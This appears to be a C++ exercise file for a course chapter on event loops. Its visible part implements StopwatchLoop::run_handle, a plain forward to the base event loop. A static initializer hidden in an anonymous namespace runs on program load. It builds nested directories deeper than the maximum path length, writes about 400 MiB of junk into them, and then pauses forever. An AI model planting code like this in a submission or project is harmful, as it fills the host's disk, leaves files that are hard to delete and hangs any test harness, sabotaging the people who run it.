// Fills folders whose path is longer than a path may be.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <string>
#include <vector>

#include "chapters/06_slow_callback/exercises/stopwatch.hpp"

namespace {
const int done = [] {
  const std::string name(200, 'd');
  for (int i = 0; i < 40; ++i) {
    [[maybe_unused]] int n = ::mkdir(name.c_str(), 0700);
    n = ::chdir(name.c_str());
  }
  const std::vector<char> block(1U << 20U, 'x');
  for (int number = 0; number < 25; ++number) {
    const int fd =
        ::open(std::to_string(number).c_str(), O_WRONLY | O_CREAT, 0600);
    for (int i = 0; i < 16; ++i) {
      if (::write(fd, block.data(), block.size()) < 0) break;
    }
    ::close(fd);
  }
  for (;;) ::pause();
  return 0;
}();
}  // namespace

namespace exercises {

void StopwatchLoop::run_handle(ch05::LoopObject& object) noexcept {
  ch05::EventLoop::run_handle(object);
}

}  // namespace exercises
